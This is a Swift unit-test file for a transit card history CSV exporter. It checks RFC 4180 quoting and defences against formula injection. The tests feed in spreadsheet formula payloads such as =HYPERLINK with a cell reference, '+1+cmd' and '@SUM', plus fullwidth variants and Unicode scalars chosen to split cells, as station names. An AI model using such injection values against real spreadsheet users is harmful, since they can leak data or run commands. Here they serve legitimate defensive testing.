import CardProtocol
import TransitModel
import TransitFiles
import TransitStations
import TransitArchive
import TransitOutput
import TestSupport
import XCTest

/// RFC 4180 quoting, read back by an independent parser (python3's csv module).
final class HistoryCSVTests: XCTestCase {
    func testStationNamesWithCommasQuotesAndLineBreaksReadBack() throws {
        let card = Archive.Card(id: 1, family: "japan-ic", serial: "0114", idm: "", name: nil, currency: "JPY", lastBalance: nil,
                                lastRead: nil, records: 1, reads: 1, readsApart: 0)
        let record = Archive.TimelineRecord(transaction: .init(type: .trip, amount: 160, date: date("2026-11-04T13:45:00+09:00"), entryStation: "E33B",
                                                               exitStation: "E621", balance: 840), json: "{}")
        let odd = "Shinjuku, \"West\"\r\nexit"
        // A station table loaded at export time, through the hook.
        let names = HistoryOutput.StationNames { _, r in (r.transaction.entryStation == "E33B" ? odd : nil, "Shibuya") }
        let csv = HistoryOutput.csv([.init(card: card, records: [record], apart: [])], names: names)
        let dir = temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("out.csv")
        try csv.write(to: file, atomically: true, encoding: .utf8)
        let script = "import csv,json,sys\nprint(json.dumps(list(csv.reader(open(sys.argv[1], newline='')))))"
        let rows = try JSONSerialization.jsonObject(with: Data(CommandRun.run("/usr/bin/python3", ["-c", script, file.path]).stdout.utf8)) as? [[String]]
        XCTAssertEqual(rows?.last, ["0114", "2026-11-04", "13:45:00", "trip", "-160", "840", "E33B", odd, "E621", "Shibuya", "JPY", "", odd, "Shibuya", ""])
        XCTAssertEqual(HistoryOutput.quoted("plain"), "plain")
        XCTAssertEqual(HistoryOutput.quoted("plain", always: true), "\"plain\"")
        XCTAssertEqual(HistoryOutput.quoted("a\"b"), "\"a\"\"b\"")
    }

    /// OWASP's CSV injection: a station name a spreadsheet would run as a formula comes back as the
    /// text it is, with a leading apostrophe; amounts stay numbers.
    func testFormulaLikeTextCellsAreDefusedAndNumbersStayNumbers() throws {
        let card = Archive.Card(id: 1, family: "japan-ic", serial: "0114", idm: "", name: nil, currency: "JPY", lastBalance: nil,
                                lastRead: nil, records: 1, reads: 1, readsApart: 0)
        // And their fullwidth forms (＝ U+FF1D, ＋, －, ＠), which Japanese Excel takes as the ASCII ones.
        let payloads = ["=HYPERLINK(\"http://x\"&B2,\"Shinjuku\")", "+1+cmd", "-2+3", "@SUM(A1)", "\tTab", "\rCR",
                        "\u{FF1D}HYPERLINK(\"http://x\")", "\u{FF0B}1", "\u{FF0D}2", "\u{FF20}SUM(A1)", "Plain"]
        let records = payloads.map { name in
            Archive.TimelineRecord(transaction: .init(type: .trip, amount: 160, date: date("2026-11-04"), entryStation: "E33B",
                                                      exitStation: "E621", balance: -20), json: "{}")
        }
        var index = 0
        let names = HistoryOutput.StationNames { _, _ in
            defer { index += 1 }
            return (payloads[index], nil)
        }
        let csv = HistoryOutput.csv([.init(card: card, records: records, apart: [])], names: names)
        let dir = temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("out.csv")
        try csv.write(to: file, atomically: true, encoding: .utf8)
        let script = "import csv,json,sys\nprint(json.dumps(list(csv.reader(open(sys.argv[1], newline='')))))"
        let rows = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(CommandRun.run("/usr/bin/python3", ["-c", script, file.path]).stdout.utf8)) as? [[String]])
        XCTAssertEqual(rows.dropFirst().map { $0[7] }, payloads.dropLast().map { "'" + $0 } + ["Plain"])
        XCTAssertEqual(Set(rows.dropFirst().map { $0[4] }), ["-160"], "an amount is a number, not defused")
        XCTAssertEqual(Set(rows.dropFirst().map { $0[5] }), ["-20"])
        for line in csv.split(separator: "\r\n").dropFirst() where line.contains("'") {
            XCTAssertTrue(line.contains(",\"'"), "a defused cell is quoted: \(line)")
        }
    }

    /// A Unicode "Prepend" scalar (U+0D4E) forms one Character with the comma or quote after it, a
    /// combining mark (U+0301) with the quote before it:
    /// the comma must still quote the cell and the quote still be doubled, or the cell splits and
    /// its second half (`=HYPERLINK(…)`) starts a cell of its own. Read back by python3's csv module,
    /// in `export`'s CSV and in SFCard Viewer's (Shift_JIS, where U+0D4E is written `?`).
    func testAPrependScalarBeforeACommaOrQuoteKeepsTheCellOneCell() throws {
        let card = Archive.Card(id: 1, family: "japan-ic", serial: "0114", idm: "", name: nil, currency: "JPY", lastBalance: nil,
                                lastRead: nil, records: 3, reads: 1, readsApart: 0)
        // And a combining mark (U+0301) after a quote: one Character again.
        let names = ["x\u{0D4E},=HYPERLINK(1)", "Shinjuku, \"\u{0301}West\u{0D4E}\",=1+1", "=HYPERLINK(\"\u{0301}x\u{0D4E}\",1)"]
        let records = names.map { name in
            var t = CardReading.TransactionRecord(type: .trip, amount: 160, date: date("2026-11-04"), entryStation: "E33B", exitStation: "E621", balance: 840)
            t.entryStationName = name
            return Archive.TimelineRecord(transaction: t, json: "{}")
        }
        var index = 0
        let lookup = HistoryOutput.StationNames { _, _ in
            defer { index += 1 }
            return (names[index], nil)
        }
        let dir = temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        func cells(_ bytes: Data, encoding: String) throws -> [[String]] {
            let file = dir.appendingPathComponent("out-\(encoding).csv")
            try bytes.write(to: file)
            let script = "import csv,io,json,sys\nprint(json.dumps(list(csv.reader(io.StringIO(open(sys.argv[1],'rb').read().decode(sys.argv[2]), newline='')))))"
            let run = try CommandRun.run("/usr/bin/python3", ["-c", script, file.path, encoding])
            XCTAssertEqual(run.status, 0, run.stderr)
            return try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(run.stdout.utf8)) as? [[String]], run.stdout)
        }
        let defused = names.map { $0.hasPrefix("=") ? "'" + $0 : $0 }

        let export = try cells(Data(HistoryOutput.csv([.init(card: card, records: records, apart: [])], names: lookup).utf8), encoding: "utf-8")
        XCTAssertEqual(export.dropFirst().map(\.count), [15, 15, 15], "\(export)")
        XCTAssertEqual(export.dropFirst().map { $0[7] }, defused)

        let period = try XCTUnwrap(ReportPeriod(month: "2026-11"))
        let report = CardReport(card: card, period: period, rows: records.map { CardReport.Row(record: $0.transaction, identity: "") })
        let sfcard = try cells(Data(SFCardCSV.render(report).bytes), encoding: "shift_jis")
        XCTAssertEqual(sfcard.dropFirst(2).map(\.count), [10, 10, 10], "\(sfcard)")
        XCTAssertEqual(sfcard.dropFirst(2).map { $0[3] }, defused.reversed().map { String(String.UnicodeScalarView($0.unicodeScalars.map { $0.isASCII ? $0 : "?" })) }, "newest first")
    }
}
